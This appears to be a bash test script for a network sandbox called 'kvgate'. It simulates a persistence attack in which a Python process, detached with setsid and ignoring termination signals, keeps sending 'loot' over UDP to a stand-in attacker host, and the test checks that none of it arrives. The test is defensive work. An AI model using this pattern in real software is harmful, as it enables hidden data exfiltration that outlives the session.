#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: leaves a process in the background, in a session of its own, that tries again and again while `kvgate run` ends: because its command did, because it was told to, because it was killed
# stopped-by: sendmsg4
# reason: destination
# kernels: all
. "$(dirname "$0")/lib.sh"
arena udp/9000
need_program setsid

cat >"$SCRATCH/persist.py" <<'PYTHON'
from attacker import *
import signal, time

for number in signal.SIGTERM, signal.SIGHUP, signal.SIGINT:
    signal.signal(number, signal.SIG_IGN)
with open(os.environ["STARTED"], "a"):
    pass
end = time.monotonic() + 4 * int(os.environ["PATIENCE"])
while time.monotonic() < end:
    try:
        udp(EVIL4).sendto(loot("left"), (EVIL4, 9000))
    except OSError:
        pass
    time.sleep(0.001)
PYTHON
export STARTED=$SCRATCH/started PATIENCE
started() { [[ -e $STARTED ]]; }

# Leaves the process behind, and ends once that is at it.
# shellcheck disable=SC2016 # it is the inner shell's
LEAVE=(bash -c 'setsid python3 "$0" </dev/null >/dev/null 2>&1 &
	until [[ -e $STARTED ]]; do sleep 0.05; done
	exec sleep 0.5' "$SCRATCH/persist.py")
RUN=("$KVGATE" run --bpffs-dir "$SCRATCH/bpf" --cgroup-parent "${CG#"$CGROUPS"}" --ranges "$RANGES"
	--resolver none --crl-hosts none --allow "$GOOD4/32=udp/9000" --audit-file "$SCRATCH/record" --)

next_run
inside_cgroup "$CG" nsenter --net="/run/netns/$CLIENT" -- "${LEAVE[@]}"
all_arrived stolen:left
wait_for 5 empty_cgroup "$CG"

for end in command TERM KILL; do
	next_run
	rm -f "$STARTED"
	spawn_in "$CLIENT" "${RUN[@]}" "${LEAVE[@]}" 2>"$SCRATCH/said"
	wait_for 5 started || fail "it did not start"
	[[ $end == command ]] || kill -"$end" "$REPLY"
	wait "$REPLY" || true
	sleep 0.5 # it goes on, if it can
	SAID="kvgate ended by $end: $(cat "$SCRATCH/said")"
	nothing_arrived
done
recorded sendmsg4 destination
